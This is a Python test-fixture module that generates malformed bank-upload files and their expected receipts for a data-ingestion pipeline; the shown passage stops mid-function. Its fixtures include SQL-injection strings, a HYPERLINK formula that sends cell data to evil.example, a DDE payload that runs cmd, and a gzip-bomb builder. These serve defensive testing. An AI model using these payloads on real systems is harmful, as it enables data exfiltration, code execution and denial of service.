"""The bad-file corpus of issue 8: every broken or odd upload a bank may make, built by code.

Nothing is committed as a blob: :func:`build_corpus` makes every file's bytes at test
time (under 3 MB in all, most of it the 2 MiB line; the bombs are a few kilobytes).
Each :class:`Case` is one upload to one bank's inbox, a data file and its ``.ok``, with
the answer bank-files.md v1 says it must get: the receipt status, the reason codes,
the row counts and the lines. ``tests/unit/test_corpus.py`` runs them all through the real
pipeline in one go.

Decisions taken where the spec leaves room (the receipt is what the bank reads):

- thousands separators (``1,234,567.00``) are numbers; scientific notation, wrong
  grouping and more than 2 decimals in 元 are ``INVALID_NUMBER``;
- a USCC in lower case or with excluded letters is ``INVALID_USCC`` (the charset is
  upper case only);
- a duplicated ``biz_id`` rejects every row that carries it (which one is right is
  unknowable);
- a header-only file is valid v1, ``accepted`` with 0 rows: a quiet day of the
  incremental ELIC feed, or an OUTLET snapshot listing no service point;
- a file whose encoding changes part-way, UTF-16, a cell of more than 64 Ki characters,
  a line of more than 1 Mi characters, or an unterminated quote make the file
  ``UNREADABLE``: past that point rows cannot be told apart, so no partial load is safe;
- ``;`` or tab as delimiter is ``DELIMITER_MISMATCH`` (named in the message), not a
  confusing missing header;
- a truncated last line is one ``MALFORMED_ROW``, the rest of the file loads;
- a formula or SQL in a cell is data: stored verbatim, shown as text, never run.
"""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import hashlib
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from decimal import Decimal
from functools import cache
from pathlib import Path
from xml.sax.saxutils import escape

from govbank.config.contracts import load_contracts
from govbank.config.settings import DEFAULT_CONTRACTS_DIR
from govbank.domain.datasets import Dataset, field_names
from govbank.domain.identifiers import USCC_CHARSET, resident_id_check_digit, uscc_check_char

# The decompression cap the corpus run uses (``govbank.ingest.read.DEFAULT_MAX_DECOMPRESSED``
# patched down), so a bomb trips it after a megabyte instead of after 4 GiB.
BOMB_CAP = 256 * 1024
# Processing order of the run: ELIC files of a bank need its OUTLET snapshot first.
BANKS = ("WZB", "ABCOH", "OHRCB", "CCBOH", "ICBCOH", "NOBANK")
FILE_DAY = dt.date(2023, 6, 5)
BIZ_DAY = dt.date(2023, 6, 1)
GOOD = 30  # rows of a file; 1 bad row in 31 is under the 5 % reject threshold
BAD_AT = 15  # index of a single bad row among the good ones: line BAD_AT + 2

SQL_CELL = "'; DROP TABLE fact_elicense_biz; --"
SQL_KEY = "X' OR '1'='1"
SQL_HEADER = '"; DROP TABLE etl_file; --'
FORMULA_CELL = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
DDE_CELL = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_KEY = '=HYPERLINK("http://evil.example","x")'


@dataclass(frozen=True)
class Case:
    """One upload and the answer it must get.

    ``ok`` is the control file's bytes (None: not uploaded yet, the file must stay
    pending). ``rows`` is (rows_total, rows_loaded, rows_rejected); ``lines`` are
    (line, reason) pairs the receipt must list (and, with ``exact_lines``, the only
    lines it names); ``stored`` are (biz_id, column, value)
    that ``fact_elicense_biz`` must hold verbatim afterwards. ``pending`` names a known
    gap whose fix is proposed outside the files this corpus may change: the case is
    expected to fail until it lands.
    """

    id: str
    bank: str
    name: str
    data: bytes
    ok: bytes | None
    status: str | None
    reasons: tuple[str, ...] = ()
    rows: tuple[int, int, int] | None = None
    lines: tuple[tuple[int, str], ...] = ()
    stored: tuple[tuple[str, str, object], ...] = ()
    pending: str | None = None
    exact_lines: bool = False  # the receipt names these lines and no other

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.data).hexdigest()


# --------------------------------------------------------------------------- values


def _digest(seed: str) -> bytes:
    return hashlib.sha256(seed.encode()).digest()


def uscc(seed: str) -> str:
    """A valid unified social credit code, different per seed, with letters in it."""
    body = "".join(USCC_CHARSET[b % len(USCC_CHARSET)] for b in _digest(seed)[:7])
    first17 = "91330304MA" + body
    return first17 + uscc_check_char(first17)


def resident_id(seed: str) -> str:
    """A valid 18-character resident ID of someone born in Ouhai, different per seed."""
    d = _digest("id:" + seed)
    born = dt.date(1960, 1, 1) + dt.timedelta(days=int.from_bytes(d[:2], "big") % 14000)
    first17 = f"330304{born:%Y%m%d}{int.from_bytes(d[2:4], 'big') % 1000:03d}"
    return first17 + resident_id_check_digit(first17)


_SURNAMES = "赵钱孙李周吴郑王冯陈褚卫蒋沈韩杨朱秦尤许何吕施张"
_GIVEN = "伟芳娜秀英敏静丽强磊军洋勇艳杰娟涛明超兰霞平刚桂"


def person(seed: str) -> str:
    d = _digest("name:" + seed)
    return _SURNAMES[d[0] % len(_SURNAMES)] + _GIVEN[d[1] % len(_GIVEN)] + _GIVEN[d[2] % len(_GIVEN)]


# --------------------------------------------------------------------------- rows


Row = dict[str, object]  # canonical field -> str (verbatim), date, Decimal or None


def elic_row(tag: str, i: int, outlet: str, *, loan: bool | None = None) -> Row:
    loan = i % 3 != 0 if loan is None else loan
    return {
        "biz_id": f"{tag}-{i:03d}",
        "outlet_code": outlet,
        "biz_type": "一照贷款" if loan else "一照开户",
        "uscc": uscc(f"{tag}/{i}"),
        "enterprise_name": f"温州{tag}测试第{i}号有限公司",
        "legal_rep_name": person(f"{tag}/{i}"),
        "legal_rep_id": resident_id(f"{tag}/{i}"),
        "biz_date": BIZ_DAY,
        "credit_amount": Decimal("500000.00") if loan else None,
        "drawn_amount": Decimal("300000.00") if loan else None,
        "loan_product": "创业贷" if loan else None,
        "status": "有效",
    }


def outlet_row(bank: str, n: int, **changes: object) -> Row:
    supermarket = n % 5 == 1
    row: Row = {
        "outlet_code": f"{bank}-O{n:02d}",
        "outlet_name": f"{bank}第{n}网点",
        "outlet_type": "政务服务超市" if supermarket else "普通网点",
        "town": "景山街道" if n % 2 else "330304002000",
        "community": None,
        "address": f"瓯海大道{n}号",
        "longitude": "120.6275" if supermarket else None,
        "latitude": "27.9993" if supermarket else None,
        "service_items": str(n) if supermarket else None,
        "opened_on": dt.date(2022, 1, 1) + dt.timedelta(days=n),
        "status": "正常",
    }
    row.update(changes)
    return row


def with_bad(tag: str, outlet: str, bad: Row, *, good: int = GOOD, at: int = BAD_AT) -> list[Row]:
    """``good`` valid rows with ``bad`` (changes to a valid loan row) inserted at ``at``."""
    rows = [elic_row(tag, i, outlet) for i in range(good)]
    base = elic_row(tag, 900, outlet, loan=True)
    base.update(bad)
    rows.insert(at, base)
    return rows


# --------------------------------------------------------------------------- rendering


@dataclass(frozen=True)
class Profile:
    """How one bank writes files (its contract plus the encoding its system uses)."""

    bank: str
    ext: str  # txt | csv | csv.gz | xlsx
    delimiter: str
    encoding: str
    newline: str = "\n"


PROFILES = {
    "WZB": Profile("WZB", "txt", "|", "gb18030"),
    "ABCOH": Profile("ABCOH", "csv.gz", ",", "utf-8-sig", "\r\n"),
    "OHRCB": Profile("OHRCB", "xlsx", "", ""),
    "CCBOH": Profile("CCBOH", "csv", ",", "utf-8", "\r\n"),
    "ICBCOH": Profile("ICBCOH", "csv", ",", "gb18030"),
    "NOBANK": Profile("NOBANK", "csv", ",", "utf-8"),
}


@cache
def _contracts():  # type: ignore[no-untyped-def]
    return load_contracts(DEFAULT_CONTRACTS_DIR)


def headers(bank: str, dataset: Dataset) -> dict[str, str]:
    contract = _contracts().get(bank)
    if contract is None or dataset not in contract.feeds:
        from govbank.domain.datasets import default_headers

        return default_headers(dataset)
    return contract.feeds[dataset].header_map(dataset)


def _date_format(bank: str, dataset: Dataset) -> str:
    contract = _contracts().get(bank)
    return contract.feeds[dataset].date_formats[0] if contract else "%Y-%m-%d"


def _wan(bank: str, dataset: Dataset) -> bool:
    contract = _contracts().get(bank)
    return bool(contract) and contract.feeds[dataset].amount_unit.value == "万元"


def cell_text(bank: str, dataset: Dataset, name: str, value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, dt.date):
        return value.strftime(_date_format(bank, dataset))
    if isinstance(value, Decimal):
        return str((value / 10000).normalize()) if _wan(bank, dataset) else f"{value:.2f}"
    return str(value)


def table(
    bank: str, dataset: Dataset, rows: Sequence[Row], columns: Sequence[str] | None = None,
    header: Sequence[str] | None = None,
) -> tuple[list[str], list[list[str]]]:
    columns = list(columns or field_names(dataset))
    names = headers(bank, dataset)
    head = list(header) if header is not None else [names.get(c, c) for c in columns]
    body = [[cell_text(bank, dataset, c, r.get(c)) for c in columns] for r in rows]
    return head, body


def delimited(
    head: Sequence[str] | None, body: Sequence[Sequence[str]], *, delimiter: str,
    encoding: str, newline: str = "\n",
) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator=newline)
    if head is not None:
        writer.writerow(head)
    writer.writerows(body)
    return buf.getvalue().encode(encoding)


def gz(data: bytes) -> bytes:
    """gzip with a fixed header (no name, mtime 0): the same input, the same bytes."""
    return gzip.compress(data, mtime=0)


def render(bank: str, dataset: Dataset, rows: Sequence[Row], **kw: object) -> bytes:
    """A file as the bank's system writes it."""
    p = PROFILES[bank]
    head, body = table(bank, dataset, rows, **kw)  # type: ignore[arg-type]
    if p.ext == "xlsx":
        return xlsx([head, *body])
    data = delimited(head, body, delimiter=p.delimiter, encoding=p.encoding, newline=p.newline)
    return gz(data) if p.ext.endswith(".gz") else data


# --------------------------------------------------------------------------- xlsx by hand


@dataclass(frozen=True)
class Formula:
    """A formula cell with the value Excel cached when it saved the file (or none)."""

    formula: str
    cached: object = None


@dataclass(frozen=True)
class ExcelDate:
    """A real Excel date: a serial number with a date number format."""

    day: dt.date


_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def _col(i: int) -> str:
    out = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        out = chr(65 + r) + out
    return out


def _cell(ref: str, v: object) -> str:
    if v is None or v == "":
        return ""
    if isinstance(v, Formula):
        f = f"<f>{escape(v.formula)}</f>"
        if v.cached is None:
            return f'<c r="{ref}">{f}</c>'
        if isinstance(v.cached, str):
            return f'<c r="{ref}" t="str">{f}<v>{escape(v.cached)}</v></c>'
        return f'<c r="{ref}">{f}<v>{v.cached}</v></c>'
    if isinstance(v, ExcelDate):
        return f'<c r="{ref}" s="1"><v>{(v.day - dt.date(1899, 12, 30)).days}</v></c>'
    if isinstance(v, int | float | Decimal) and not isinstance(v, bool):
        return f'<c r="{ref}"><v>{v}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(v))}</t></is></c>'


def sheet_xml(rows: Sequence[Sequence[object]], padding: int = 0) -> bytes:
    out = [f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{_NS}"><sheetData>']
    for r, row in enumerate(rows, start=1):
        cells = "".join(_cell(f"{_col(c)}{r}", v) for c, v in enumerate(row))
        out.append(f'<row r="{r}">{cells}</row>')
    out.append("</sheetData>")
    if padding:  # XML whitespace: a sheet that inflates to ``padding`` more bytes
        out.append(" " * padding)
    out.append("</worksheet>")
    return "".join(out).encode("utf-8")


def xlsx(rows: Sequence[Sequence[object]] | None, *, padding: int = 0) -> bytes:
    """A minimal, valid workbook: one sheet (or none when ``rows`` is None)."""
    sheets = "" if rows is None else '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>'
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{_CT}.sheet.main+xml"/>'
            f'<Override PartName="/xl/styles.xml" ContentType="{_CT}.styles+xml"/>'
            + ("" if rows is None else
               f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_CT}.worksheet+xml"/>')
            + "</Types>"
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{_PKG}"><Relationship Id="rId1" '
            f'Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{_NS}" xmlns:r="{_REL}"><sheets>{sheets}</sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{_PKG}">'
            + ("" if rows is None else
               f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>')
            + f'<Relationship Id="rId2" Type="{_REL}/styles" Target="styles.xml"/></Relationships>'
        ),
        "xl/styles.xml": (
            f'<styleSheet xmlns="{_NS}"><fonts count="1"><font/></fonts>'
            '<fills count="1"><fill/></fills><borders count="1"><border/></borders>'
            '<cellStyleXfs count="1"><xf/></cellStyleXfs>'
            '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs>'
            "</styleSheet>"
        ),
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in parts.items():
            z.writestr(zipfile.ZipInfo(name, (2023, 6, 1, 0, 0, 0)), text, zipfile.ZIP_DEFLATED)
        if rows is not None:
            info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", (2023, 6, 1, 0, 0, 0))
            z.writestr(info, sheet_xml(rows, padding), zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def encrypted_ole() -> bytes:
    """What Excel writes for a workbook with an open password: an OLE compound file
    (not a zip) whose streams are ``EncryptionInfo`` and ``EncryptedPackage``.

    Minimal but well-formed (header, one FAT sector, one directory sector, empty
    streams); the reader must refuse it as encrypted, not crash on it.
    """
    free, end, fat_sect, nostream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 0x1000, end, 0, end, 0)
    header += struct.pack("<I", 0) + struct.pack("<I", free) * 108
    fat = struct.pack("<II", fat_sect, end) + struct.pack("<I", free) * 126

    def entry(name: str, kind: int, left: int, right: int, child: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0" if name else b""
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB", len(raw), kind, 1)
            + struct.pack("<III", left, right, child)
            + b"\0" * 16 + b"\0" * 4 + b"\0" * 16
            + struct.pack("<IQ", end if kind else 0, 0)
        )

    directory = (
        entry("Root Entry", 5, nostream, nostream, 1)
        + entry("EncryptionInfo", 2, nostream, 2, nostream)
        + entry("EncryptedPackage", 2, nostream, nostream, nostream)
        + entry("", 0, nostream, nostream, nostream)
    )
    return header + fat + directory


def gzip_bomb(prefix: bytes, inflated: int) -> bytes:
    """``prefix`` then ``inflated`` zero bytes, as one gzip stream of a few kilobytes.

    Zeros are compressed once per mebibyte and the compressed block repeated with a
    sync flush between, so making a bomb of any size costs nothing.
    """
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"\0" * (1 << 20)
    head = comp.compress(prefix) + comp.flush(zlib.Z_FULL_FLUSH)
    one = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    n = inflated >> 20
    body = head + one * n + comp.flush()
    crc = zlib.crc32(prefix)
    for _ in range(n):
        crc = zlib.crc32(block, crc)
    size = (len(prefix) + n * len(block)) & 0xFFFFFFFF
    return b"\x1f\x8b\x08\x00\0\0\0\0\x02\xff" + body + struct.pack("<II", crc & 0xFFFFFFFF, size)


# --------------------------------------------------------------------------- control files


def ok_file(data: bytes, rows: int | None = None, *, sha: bool = True) -> bytes:
    lines = [f"rows={rows}"] if rows is not None else []
    if sha:
        lines.append("sha256=" + hashlib.sha256(data).hexdigest())
    return "".join(line + "\n" for line in lines).encode()


# --------------------------------------------------------------------------- the cases


class _Builder:
    def __init__(self) -> None:
        self.cases: list[Case] = []
        self.seq: dict[tuple[str, str, dt.date], int] = {}

    def name(self, bank: str, dataset: Dataset, day: dt.date = FILE_DAY) -> str:
        key = (bank, dataset.value, day)
        n = self.seq.get(key, 0)
        self.seq[key] = n + 1
        ext = PROFILES[bank].ext
        return f"{dataset.value}_{bank}_{day:%Y%m%d}" + (f"_{n:02d}" if n else "") + f".{ext}"

    def add(self, case: Case) -> None:
        assert case.id not in {c.id for c in self.cases}, case.id
        self.cases.append(case)

    def file(
        self, id: str, bank: str, dataset: Dataset, data: bytes, status: str | None, *,
        reasons: Sequence[str] = (), rows: tuple[int, int, int] | None = None,
        lines: Sequence[tuple[int, str]] = (), ok: bytes | Callable[[bytes], bytes] | None = ok_file,
        name: str | None = None, day: dt.date = FILE_DAY,
        stored: Sequence[tuple[str, str, object]] = (), pending: str | None = None,
        exact_lines: bool = False,
    ) -> Case:
        control = ok(data) if callable(ok) else ok
        case = Case(
            id, bank, name or self.name(bank, dataset, day), data, control, status,
            tuple(reasons), rows, tuple(lines), tuple(stored), pending, exact_lines,
        )
        self.add(case)
        return case

    def row_group(self, id: str, bad_rows: Sequence[tuple[Row, str]], *, bank: str = "WZB") -> Case:
        """Valid ELIC rows with bad ones among them, 20 good rows to each bad one (4.8 %,
        under the 5 % threshold): each bad row is refused for its reason, the rest load."""
        per = 20
        outlet = f"{bank}-O01"
        rows = [elic_row(id, i, outlet) for i in range(per * len(bad_rows))]
        lines = []
        for k, (bad, reason) in enumerate(bad_rows):
            changes = dict(bad)
            row = elic_row(id, 900 + k, outlet, loan=bool(changes.pop("_loan", True)))
            row.update(changes)
            at = k * (per + 1) + per // 2
            rows.insert(at, row)
            lines.append((at + 2, reason))
        n, bad_n = len(rows), len(bad_rows)
        return self.file(
            id, bank, Dataset.ELIC, render(bank, Dataset.ELIC, rows), "partially_accepted",
            reasons=sorted({r for _, r in bad_rows}), rows=(n, n - bad_n, bad_n), lines=lines,
            ok=lambda d: ok_file(d, n), exact_lines=True,
        )

    def accepted(self, id: str, bank: str, rows: Sequence[Row], data: bytes, **kw: object) -> Case:
        n = len(rows)
        return self.file(
            id, bank, Dataset.ELIC, data, "accepted", rows=(n, n, 0),
            ok=lambda d: ok_file(d, n), **kw,  # type: ignore[arg-type]
        )




def _outlets(b: _Builder) -> None:
    """Each bank's first snapshot (ELIC rows need known outlets), then OUTLET cases."""
    day0 = dt.date(2023, 6, 1)
    for bank in ("WZB", "OHRCB", "CCBOH"):
        rows = [outlet_row(bank, n) for n in range(1, 6)]
        data = render(bank, Dataset.OUTLET, rows)
        b.file(
            f"outlet_baseline_{bank}", bank, Dataset.OUTLET, data, "accepted", rows=(5, 5, 0),
            day=day0, ok=lambda d: ok_file(d, 5),
        )
    base = [outlet_row("WZB", n) for n in range(1, 31)]

    def snapshot(id: str, day: int, bad: Row | None, reason: str, at: int | None = None) -> None:
        rows = [dict(r) for r in base]
        if at is not None:
            rows[at].update(bad or {})
        else:
            rows.insert(BAD_AT, outlet_row("WZB", 90 + day, **(bad or {})))
        idx = at if at is not None else BAD_AT
        data = render("WZB", Dataset.OUTLET, rows)
        b.file(
            id, "WZB", Dataset.OUTLET, data, "partially_accepted", reasons=[reason],
            rows=(len(rows), len(rows) - 1, 1), lines=[(idx + 2, reason)],
            day=dt.date(2023, 6, day), ok=lambda d: ok_file(d, len(rows)), exact_lines=True,
        )

    # an existing outlet (O03) sent with a bad town: refused, but it is not closed
    snapshot("outlet_unknown_town", 2, {"town": "鹿城区五马街道"}, "UNKNOWN_TOWN", at=2)
    snapshot(
        "outlet_coords_missing", 3,
        {"outlet_type": "政务服务超市", "longitude": None, "latitude": None}, "COORD_MISSING",
    )
    snapshot(
        "outlet_coords_out_of_area", 4,
        {"outlet_type": "自助终端", "longitude": "116.40", "latitude": "39.90"}, "COORD_OUT_OF_AREA",
    )
    snapshot("outlet_opened_in_future", 4, {"opened_on": dt.date(2023, 7, 1)}, "DATE_IN_FUTURE")
    # a snapshot with no service points is valid v1 (it would close every current one);
    # ICBCOH has none yet, so nothing is closed here
    head, _ = table("ICBCOH", Dataset.OUTLET, [])
    data = delimited(head, [], delimiter=",", encoding="gb18030")
    b.file(
        "outlet_header_only", "ICBCOH", Dataset.OUTLET, data, "accepted", rows=(0, 0, 0),
        day=dt.date(2023, 6, 2),
    )


def _row_level(b: _Builder) -> None:
    """Bad rows among good ones (WZB: GB18030, ``|``), grouped by theme: partially accepted."""
    good_uscc = uscc("row/uscc")
    b.row_group("numbers", [
        ({"credit_amount": "1.2E+6"}, "INVALID_NUMBER"),  # scientific notation
        ({"credit_amount": "1,00,000.00"}, "INVALID_NUMBER"),  # wrong grouping
        ({"credit_amount": "500000.005"}, "INVALID_NUMBER"),  # finer than a fen
        ({"credit_amount": "99999999999999999999.00"}, "INVALID_NUMBER"),  # beyond NUMERIC(18,2)
        ({"credit_amount": "-500000.00", "drawn_amount": "-600000.00"}, "NEGATIVE_NUMBER"),
    ])
    b.row_group("dates", [
        ({"biz_date": "01/06/2023"}, "INVALID_DATE"),  # wrong format
        ({"biz_date": "2023-02-30"}, "INVALID_DATE"),  # impossible
        ({"biz_date": "2023-06-20"}, "DATE_IN_FUTURE"),  # after the file's date
        ({"biz_date": "2018-12-31"}, "DATE_TOO_EARLY"),
    ])
    wrong = USCC_CHARSET[(USCC_CHARSET.index(good_uscc[17]) + 1) % len(USCC_CHARSET)]
    b.row_group("uscc", [
        ({"uscc": good_uscc[:17] + wrong}, "INVALID_USCC"),  # check character
        ({"uscc": "91330304MA2OIZSV0X"}, "INVALID_USCC"),  # excluded letters I O Z S V
        ({"uscc": good_uscc.lower()}, "INVALID_USCC"),
        ({"uscc": good_uscc[:17]}, "INVALID_USCC"),
        ({"uscc": good_uscc + "0"}, "INVALID_USCC"),
    ])
    b.row_group("amount_rules", [
        ({"credit_amount": Decimal("100000.00"), "drawn_amount": Decimal("200000.00")}, "DRAWN_EXCEEDS_CREDIT"),
        ({"credit_amount": None, "drawn_amount": None}, "LOAN_AMOUNT_MISSING"),
        ({"_loan": False, "credit_amount": Decimal("1.00"), "drawn_amount": None}, "OPENING_HAS_AMOUNT"),
    ])
    rid = resident_id("row/id")
    bad_check = "10X98765432"[("10X98765432".index(rid[17]) + 3) % 11]
    b.row_group("fields", [
        ({"legal_rep_id": rid[:17] + bad_check}, "INVALID_RESIDENT_ID"),
        ({"outlet_code": "WZB-O99"}, "UNKNOWN_OUTLET"),  # an outlet the bank never sent
        ({"biz_type": "一照办"}, "INVALID_ENUM"),
        ({"enterprise_name": "　 "}, "REQUIRED_MISSING"),  # full-width space is not data
        ({"biz_id": "B" * 65}, "TOO_LONG"),
        # a formula in a refused cell: the rejects CSV shows it, Excel must not run it
        ({"outlet_code": FORMULA_KEY}, "UNKNOWN_OUTLET"),
    ])

    # duplicate biz_id: both rows refused; 2 of 46 is still under 5 %
    rows = [elic_row("dup_biz_id", i, "WZB-O01") for i in range(45)]
    rows.insert(20, dict(rows[9]))
    data = render("WZB", Dataset.ELIC, rows)
    b.file(
        "duplicate_biz_id", "WZB", Dataset.ELIC, data, "partially_accepted",
        reasons=["DUPLICATE_KEY"], rows=(46, 44, 2), lines=[(11, "DUPLICATE_KEY"), (22, "DUPLICATE_KEY")],
        ok=lambda d: ok_file(d, 46), exact_lines=True,
    )
    # too many bad rows: the whole file is refused, the bad rows are still listed
    rows = [elic_row("too_many", i, "WZB-O01") for i in range(10)]
    for i in (2, 5, 8):
        rows[i]["uscc"] = "BADUSCC"
    data = render("WZB", Dataset.ELIC, rows)
    b.file(
        "too_many_invalid", "WZB", Dataset.ELIC, data, "rejected",
        reasons=["TOO_MANY_INVALID", "INVALID_USCC"], rows=(10, 0, 10),
        lines=[(4, "INVALID_USCC"), (7, "INVALID_USCC"), (10, "INVALID_USCC")], exact_lines=True,
    )


def _accepted_oddities(b: _Builder) -> None:
    """Files that look odd but follow v1: every row loads."""
    rows = [elic_row("thousands", i, "WZB-O01", loan=True) for i in range(GOOD)]
    for r in rows:
        r["credit_amount"], r["drawn_amount"] = "1,234,567.00", "1,000,000.5"
    b.accepted(
        "num_thousands_separators", "WZB", rows, render("WZB", Dataset.ELIC, rows),
        stored=[("thousands-000", "credit_amount_yuan", Decimal("1234567.00")),
                ("thousands-000", "drawn_amount_yuan", Decimal("1000000.50"))],
    )

    rows = [elic_row("crlf", i, "WZB-O01") for i in range(GOOD)]
    head, body = table("WZB", Dataset.ELIC, rows)
    text = "|".join(head) + "\r\n" + "".join(
        "|".join(r) + ("\r\n" if i % 2 else "\n") for i, r in enumerate(body)
    )
    b.accepted("crlf_lf_mixed", "WZB", rows, text.encode("gb18030"))

    # two exports concatenated: a UTF-8 BOM at the start of a line in the middle
    rows = [elic_row("bom", i, "WZB-O01") for i in range(GOOD)]
    head, body = table("WZB", Dataset.ELIC, rows)
    lines = ["|".join(head)] + ["|".join(r) for r in body]
    text = "\ufeff" + "\n".join(lines[:16]) + "\n\ufeff" + "\n".join(lines[16:]) + "\n"
    b.accepted(
        "bom_in_the_middle", "WZB", rows, text.encode("utf-8"),
        stored=[("bom-015", "biz_id", "bom-015")],
    )

    rows = [elic_row("extra_cols", i, "WZB-O01") for i in range(GOOD)]
    head, body = table("WZB", Dataset.ELIC, rows)
    head = [*head[:3], "备注", *head[3:], SQL_HEADER]
    body = [[*r[:3], "无", *r[3:], "1"] for r in body]
    b.accepted("extra_unknown_columns", "WZB", rows, delimited(head, body, delimiter="|", encoding="gb18030"))

    rows = [elic_row("reordered", i, "WZB-O01") for i in range(GOOD)]
    cols = list(reversed(field_names(Dataset.ELIC)))
    b.accepted("columns_reordered", "WZB", rows, render("WZB", Dataset.ELIC, rows, columns=cols))

    rows = [elic_row("optional_absent", i, "WZB-O01") for i in range(GOOD)]
    cols = [c for c in field_names(Dataset.ELIC) if c not in ("legal_rep_name", "legal_rep_id", "loan_product")]
    b.accepted("optional_columns_absent", "WZB", rows, render("WZB", Dataset.ELIC, rows, columns=cols))

    rows = [elic_row("sql", i, "WZB-O01") for i in range(GOOD)]
    rows[3]["enterprise_name"] = SQL_CELL
    rows[4]["biz_id"] = SQL_KEY
    b.accepted(
        "sql_in_cells", "WZB", rows, render("WZB", Dataset.ELIC, rows),
        stored=[("sql-003", "enterprise_name", SQL_CELL), (SQL_KEY, "biz_id", SQL_KEY)],
    )

    rows = [elic_row("formula", i, "WZB-O01") for i in range(GOOD)]
    rows[5]["enterprise_name"] = FORMULA_CELL
    rows[5]["loan_product"] = DDE_CELL
    b.accepted(
        "formula_in_cells", "WZB", rows, render("WZB", Dataset.ELIC, rows),
        stored=[("formula-005", "enterprise_name", FORMULA_CELL), ("formula-005", "loan_product", DDE_CELL)],
    )

    # CCBOH: its own headers, comma-separated, amounts in 万元 quoted with separators
    rows = [elic_row("ccb_quoted", i, "CCBOH-O01", loan=True) for i in range(GOOD)]
    for r in rows:
        r["credit_amount"], r["drawn_amount"] = "1,234.5", "1,000"
    b.accepted(
        "quoted_thousands_in_wan", "CCBOH", rows, render("CCBOH", Dataset.ELIC, rows),
        stored=[("ccb_quoted-000", "credit_amount_yuan", Decimal("12345000.00"))],
    )

    # the same bytes under two names: the second is a duplicate, nothing loads twice
    rows = [elic_row("twice", i, "WZB-O01") for i in range(GOOD)]
    data = render("WZB", Dataset.ELIC, rows)
    day = dt.date(2023, 6, 6)
    b.accepted("same_bytes_first", "WZB", rows, data, day=day)
    b.file(
        "same_bytes_second_name", "WZB", Dataset.ELIC, data, "duplicate", rows=(0, 0, 0),
        day=day, ok=lambda d: ok_file(d, GOOD),
    )


def _file_level(b: _Builder) -> None:
    """Whole files refused (WZB unless said otherwise): nothing loads."""
    rows = [elic_row("fl", i, "WZB-O01") for i in range(GOOD)]
    head, body = table("WZB", Dataset.ELIC, rows)

    def text(h: Sequence[str] | None, rs: Sequence[Sequence[str]], delimiter: str = "|", enc: str = "gb18030") -> bytes:
        return delimited(h, rs, delimiter=delimiter, encoding=enc)

    def refused(id: str, data: bytes, reason: str, **kw: object) -> Case:
        return b.file(id, "WZB", Dataset.ELIC, data, "rejected", reasons=[reason], rows=(0, 0, 0), **kw)  # type: ignore[arg-type]

    refused("empty_file", b"", "EMPTY_FILE", ok=b"")
    refused("whitespace_only", b"\r\n \r\n\t\r\n", "EMPTY_FILE")
    refused("bom_only", b"\xef\xbb\xbf\r\n", "EMPTY_FILE")
    b.file("header_only", "WZB", Dataset.ELIC, text(head, []), "accepted", rows=(0, 0, 0))
    refused("no_header", text(None, body), "HEADER_MISSING")
    drop = head.index("统一社会信用代码")
    refused(
        "header_required_missing",
        text([h for i, h in enumerate(head) if i != drop], [[c for i, c in enumerate(r) if i != drop] for r in body]),
        "HEADER_MISSING",
    )
    refused("header_duplicated", text([*head, "业务日期"], [[*r, "2023-06-01"] for r in body]), "HEADER_DUPLICATE")
    refused("header_renamed", text(["流水号", *head[1:]], body), "HEADER_MISSING")
    refused("delimiter_comma", text(head, body, ","), "DELIMITER_MISMATCH")
    refused("delimiter_semicolon", text(head, body, ";"), "DELIMITER_MISMATCH")
    refused("delimiter_tab", text(head, body, "\t"), "DELIMITER_MISMATCH")

    # header and first rows in UTF-8, the rest from a GB18030 system
    utf8 = text(head, body[:20], enc="utf-8")
    refused("mixed_encodings", utf8 + text(None, body[20:], enc="gb18030"), "UNREADABLE")
    good_utf8 = text(head, body, enc="utf-8")
    cut = good_utf8.index("温州fl测试第7号".encode())
    refused("invalid_bytes_utf8", good_utf8[:cut] + b"\xff\xfe\xa1" + good_utf8[cut:], "UNREADABLE")
    good_gb = text(head, body)
    cut = good_gb.index("温州fl测试第8号".encode("gb18030"))
